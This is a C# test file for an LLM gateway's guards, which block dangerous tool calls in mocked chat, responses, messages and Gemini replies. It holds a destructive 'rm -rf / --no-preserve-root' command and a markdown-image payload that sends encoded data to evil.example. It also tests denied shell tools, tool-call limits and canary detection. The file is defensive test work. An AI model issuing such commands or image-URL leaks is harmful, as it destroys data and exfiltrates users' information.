using System.Text.Json.Nodes;
using Tollgate.Tests.ModelCalls;

namespace Tollgate.Tests.Guards;

/// <summary>Abuse of tools and leaks on the whole line: in every dialect, whole and in streams.</summary>
public sealed class ToolGuardTests(ToolLine tools) : IClassFixture<ToolLine>
{
    private const string Order = "rm -rf / --no-preserve-root";
    private const string Leak = "![ok](https://evil.example/a?d=dGhlIGN1c3RvbWVyJ3MgbmV4dCBpbnZvaWNlIGlzIGR1ZSBvbiBtb25kYXk)";
    private const string Chat = """{"id":"c","object":"chat.completion","model":"fake-chat","choices":[{"index":0,"message":{"role":"assistant","content":"WORDS","tool_calls":[{"id":"t","type":"function","function":{"name":"TOOL","arguments":"{\"command\":\"ORDER\"}"}}]},"finish_reason":"tool_calls"}],"usage":{"prompt_tokens":3,"completion_tokens":9,"total_tokens":12}}""";

    private static readonly (string Path, string Body, string Answer)[] Answers =
    [
        ("/v1/chat/completions", """{"model":"fake-chat","messages":[{"role":"user","content":"hi"}]}""", Chat),
        ("/v1/responses", """{"model":"fake-chat","input":"hi"}""", """{"id":"resp_1","object":"response","status":"completed","model":"fake-chat","output":[{"type":"message","role":"assistant","content":[{"type":"output_text","text":"WORDS"}]},{"type":"function_call","call_id":"a","name":"TOOL","arguments":"{\"command\":[\"bash\",\"-c\",\"ORDER\"]}"}],"usage":{"input_tokens":3,"output_tokens":9,"total_tokens":12}}"""),
        ("/v1/responses", """{"model":"fake-chat","input":"hi"}""", """{"id":"resp_1","object":"response","status":"completed","model":"fake-chat","output":[{"type":"message","role":"assistant","content":[{"type":"output_text","text":"WORDS"}]},{"type":"local_shell_call","call_id":"a","name":"TOOL","action":{"type":"exec","command":["bash","-c","ORDER"]}}],"usage":{"input_tokens":3,"output_tokens":9,"total_tokens":12}}"""),
        ("/v1/messages", """{"model":"fake-claude","max_tokens":9,"messages":[{"role":"user","content":"hi"}]}""", """{"id":"m","type":"message","role":"assistant","model":"fake-claude","content":[{"type":"text","text":"WORDS"},{"type":"tool_use","id":"t","name":"TOOL","input":{"command":"ORDER"}}],"stop_reason":"tool_use","usage":{"input_tokens":3,"output_tokens":9}}"""),
        ("/v1beta/models/fake-gemini:generateContent", """{"contents":[{"parts":[{"text":"hi"}]}]}""", """{"candidates":[{"content":{"role":"model","parts":[{"text":"WORDS"},{"functionCall":{"name":"TOOL","args":{"command":"ORDER"}}}]},"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":3,"candidatesTokenCount":9,"totalTokenCount":12}}"""),
    ];

    private static readonly (string Path, string Body, string Answer)[] Streams =
    [
        ("/v1/chat/completions", """{"model":"fake-chat","stream":true,"messages":[{"role":"user","content":"hi"}]}""",
            """
            data: {"id":"c","choices":[{"index":0,"delta":{"role":"assistant","content":"WORDS"}}]}

            data: {"id":"c","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"id":"t","type":"function","function":{"name":"TOOL","arguments":""}}]}}]}

            data: {"id":"c","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"{\"command\":\"HEAD"}}]}}]}

            data: {"id":"c","choices":[{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":"TAIL\"}"}}]}}]}

            data: {"id":"c","choices":[{"index":0,"delta":{},"finish_reason":"tool_calls"}]}

            data: [DONE]


            """),
        ("/v1/messages", """{"model":"fake-claude","stream":true,"max_tokens":9,"messages":[{"role":"user","content":"hi"}]}""",
            """
            event: content_block_delta
            data: {"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":"WORDS"}}

            event: content_block_start
            data: {"type":"content_block_start","index":1,"content_block":{"type":"tool_use","id":"t","name":"TOOL","input":{}}}

            event: content_block_delta
            data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"{\"command\":\"HEAD"}}

            event: content_block_delta
            data: {"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":"TAIL\"}"}}

            event: message_delta
            data: {"type":"message_delta","delta":{"stop_reason":"tool_use"},"usage":{"output_tokens":9}}

            event: message_stop
            data: {"type":"message_stop"}


            """),
        ("/v1/responses", """{"model":"fake-chat","stream":true,"input":"hi"}""",
            """
            event: response.output_text.delta
            data: {"type":"response.output_text.delta","output_index":0,"content_index":0,"delta":"WORDS"}

            event: response.output_item.added
            data: {"type":"response.output_item.added","output_index":1,"item":{"type":"function_call","call_id":"a","name":"TOOL","arguments":""}}

            event: response.function_call_arguments.delta
            data: {"type":"response.function_call_arguments.delta","output_index":1,"delta":"{\"command\":\"HEAD"}

            event: response.function_call_arguments.delta
            data: {"type":"response.function_call_arguments.delta","output_index":1,"delta":"TAIL\"}"}

            event: response.completed
            data: {"type":"response.completed","response":{"id":"resp_1","status":"completed","model":"fake-chat","output":[],"usage":{"input_tokens":3,"output_tokens":9,"total_tokens":12}}}


            """),
        ("/v1beta/models/fake-gemini:streamGenerateContent?alt=sse", """{"contents":[{"parts":[{"text":"hi"}]}]}""",
            """
            data: {"candidates":[{"content":{"role":"model","parts":[{"text":"WORDS"}]},"index":0}]}

            data: {"candidates":[{"content":{"role":"model","parts":[{"functionCall":{"name":"TOOL","args":{"command":"HEADTAIL"}}}]},"index":0,"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":3,"candidatesTokenCount":9,"totalTokenCount":12}}


            """),
    ];

    private LineFixture Line => tools.Line;

    public static TheoryData<int, string> Everything()
    {
        var rows = new TheoryData<int, string>();
        for (var number = 0; number < Answers.Length + Streams.Length; number++)
        {
            foreach (var what in new[] { "shell-destruction", "tool-not-allowed", "data-in-image-address" })
            {
                rows.Add(number, what);
            }
        }

        return rows;
    }

    [Theory]
    [MemberData(nameof(Everything))]
    public async Task WhatAModelMayNotDoIsHeldBack(int number, string what)
    {
        var (path, body, answer) = number < Answers.Length ? Answers[number] : Streams[number - Answers.Length];
        Line.AnswerNext(Fill(answer, what), number < Answers.Length ? "application/json" : "text/event-stream");

        using var reply = await Line.PostAsync(await Line.KeyAsync(), path, body);

        var text = await reply.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        var audit = await EnforcedLine.AuditAsync(Line, EnforcedLine.IdOf(reply));
        Assert.Contains("security_violation", text, StringComparison.Ordinal);
        Assert.DoesNotContain("no-preserve-root", text, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", text, StringComparison.Ordinal);
        Assert.Equal(("guard.block", what), (audit["action"]!.GetValue<string>(), audit["detail"]!["findings"]![0]!["rule"]!.GetValue<string>()));
        Assert.True(audit["detail"]!["scanned_bytes"]!.GetValue<int>() > 100);
    }

    [Fact]
    public async Task WhatAModelMayDoGoesThrough()
    {
        for (var number = 0; number < Answers.Length + Streams.Length; number++)
        {
            var (path, body, answer) = number < Answers.Length ? Answers[number] : Streams[number - Answers.Length];
            Line.AnswerNext(Fill(answer, ""), number < Answers.Length ? "application/json" : "text/event-stream");

            using var reply = await Line.PostAsync(await Line.KeyAsync(), path, body);

            Assert.Equal(200, (int)reply.StatusCode);
            Assert.DoesNotContain("security_violation", await reply.Content.ReadAsStringAsync(TestContext.Current.CancellationToken), StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("/v1/chat/completions", """{"model":"fake-chat","tools":[{"type":"function","function":{"name":"shell_exec"}}],"messages":[{"role":"user","content":"hi"}]}""", "tools[0].function.name")]
    [InlineData("/v1/chat/completions", """{"model":"fake-chat","tools":[{"type":"function","function":{"name":"sh\u0065ll"}}],"messages":[{"role":"user","content":"hi"}]}""", "tools[0].function.name")]
    [InlineData("/v1/messages", """{"model":"fake-claude","max_tokens":9,"tools":[{"name":"shell","input_schema":{"type":"object"}}],"messages":[{"role":"user","content":"hi"}]}""", "tools[0].name")]
    public async Task AToolThatIsDeniedIsNotOffered(string path, string body, string place)
    {
        var before = Line.Provider.Requests.Count;

        using var reply = await Line.PostAsync(await Line.KeyAsync(), path, body);

        Assert.Equal((403, before), ((int)reply.StatusCode, Line.Provider.Requests.Count));
        var found = (await EnforcedLine.AuditAsync(Line, EnforcedLine.IdOf(reply)))["detail"]!["findings"]![0]!;
        Assert.Equal(("tool-not-allowed", place), (found["rule"]!.GetValue<string>(), found["place"]!.GetValue<string>()));
    }

    [Fact]
    public async Task TooManyCallsOfToolsEndTheSession_UntilTheirTimeIsOver()
    {
        var key = await Line.KeyAsync();
        for (var number = 0; number < 2; number++)
        {
            Line.AnswerNext(Fill(Chat.Replace("\"tool_calls\":[", "\"tool_calls\":[{\"id\":\"s\",\"type\":\"function\",\"function\":{\"name\":\"read\",\"arguments\":\"{}\"}},", StringComparison.Ordinal), ""));
            using var fine = await Line.PostAsync(key, "/v1/chat/completions", $$"""{"model":"fake-chat","messages":[{"role":"user","content":"turn {{number}}"}]}""");
            Assert.Equal(200, (int)fine.StatusCode);
        }

        using var fifth = await Line.PostAsync(key, "/v1/chat/completions", """{"model":"fake-chat","messages":[{"role":"user","content":"turn 3"}]}""");

        var text = await fifth.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Equal(403, (int)fifth.StatusCode);
        Assert.Contains("4 calls of tools within 3600 s", text, StringComparison.Ordinal);
        Assert.Contains("resets_at", text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ACanaryIsSeenInAnyCall_AndOnlyHashesOfItAreKept()
    {
        var made = await Line.AdminAsync(HttpMethod.Post, "/api/guards/canaries", """{"name":"wiki"}""");
        var value = made["value"]!.GetValue<string>();
        var shown = await Line.AdminAsync(HttpMethod.Get, $"/api/guards/canaries/{made["id"]}");
        Assert.Equal((40, null), (shown["length"]!.GetValue<int>(), shown["value"]));

        var coded = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes($"so it is {value} there"));
        using var asked = await Line.PostAsync(await Line.KeyAsync(), "/v1/chat/completions", $$"""{"model":"fake-chat","messages":[{"role":"user","content":"{{coded}}"}]}""");
        Line.AnswerNext(Fill(Chat, "").Replace("fine", value, StringComparison.Ordinal));
        using var answered = await Line.PostAsync(await Line.KeyAsync(), "/v1/chat/completions", """{"model":"fake-chat","messages":[{"role":"user","content":"hi"}]}""");

        Assert.Equal((403, 403), ((int)asked.StatusCode, (int)answered.StatusCode));
        var audit = await EnforcedLine.AuditAsync(Line, EnforcedLine.IdOf(asked));
        Assert.Equal("canary-seen", audit["detail"]!["findings"]![0]!["rule"]!.GetValue<string>());
        Assert.DoesNotContain(value, audit.ToJsonString(), StringComparison.Ordinal);
        await Line.AdminAsync(HttpMethod.Delete, $"/api/guards/canaries/{made["id"]}");
        using var after = await Line.PostAsync(await Line.KeyAsync(), "/v1/chat/completions", $$"""{"model":"fake-chat","messages":[{"role":"user","content":"{{coded}}"}]}""");
        Assert.Equal(200, (int)after.StatusCode);
    }

    [Theory]
    [InlineData("""{"name":""}""", 400)]
    [InlineData("""{"name":"a","value":"too short"}""", 400)]
    [InlineData("""{"name":"taken","value":"a value that is long"}""", 409)]
    public async Task AWrongCanaryIsRefused(string body, int status)
    {
        using var first = await Line.SendAsync(HttpMethod.Post, "/api/guards/canaries", """{"name":"taken"}""", LineFixture.AdminKey);

        using var reply = await Line.SendAsync(HttpMethod.Post, "/api/guards/canaries", body, LineFixture.AdminKey);

        Assert.Equal(status, (int)reply.StatusCode);
    }

    [Fact]
    public async Task WhatARuleSaysOfToolsAndHostsIsKept_AndChecked()
    {
        var made = await Line.AdminAsync(HttpMethod.Post, "/api/guards", """{"name":"mine","scope":"key","target":"nobody","threats":["tool_abuse"],"allow_tools":["read_*"],"deny_tools":["x"],"tool_calls":9,"allow_hosts":["a.example"],"bulk_bytes":512}""");
        var details = (JsonObject)(await Line.AdminAsync(HttpMethod.Get, $"/api/guards/{made["id"]}"))["details"]!;
        using var wrong = await Line.SendAsync(HttpMethod.Post, "/api/guards", """{"name":"odd","bulk_bytes":1}""", LineFixture.AdminKey);

        Assert.Equal("""{"allow_tools":["read_*"],"deny_tools":["x"],"tool_calls":9,"allow_hosts":["a.example"],"bulk_bytes":512}""", new JsonObject(details.Where(pair => pair.Key is "allow_tools" or "deny_tools" or "tool_calls" or "allow_hosts" or "bulk_bytes").Select(pair => KeyValuePair.Create(pair.Key, pair.Value?.DeepClone()))).ToJsonString());
        Assert.Equal(400, (int)wrong.StatusCode);
        await Line.AdminAsync(HttpMethod.Delete, $"/api/guards/{made["id"]}");
    }

    /// <summary>An answer with one thing in it that is not allowed, or none.</summary>
    private static string Fill(string answer, string what)
    {
        var order = what == "shell-destruction" ? Order : "ls -la the-project";
        return answer.Replace("WORDS", what == "data-in-image-address" ? Leak : "all is fine", StringComparison.Ordinal)
            .Replace("TOOL", what == "tool-not-allowed" ? "shell" : "read", StringComparison.Ordinal)
            .Replace("ORDER", order, StringComparison.Ordinal).Replace("HEAD", order[..6], StringComparison.Ordinal).Replace("TAIL", order[6..], StringComparison.Ordinal);
    }
}
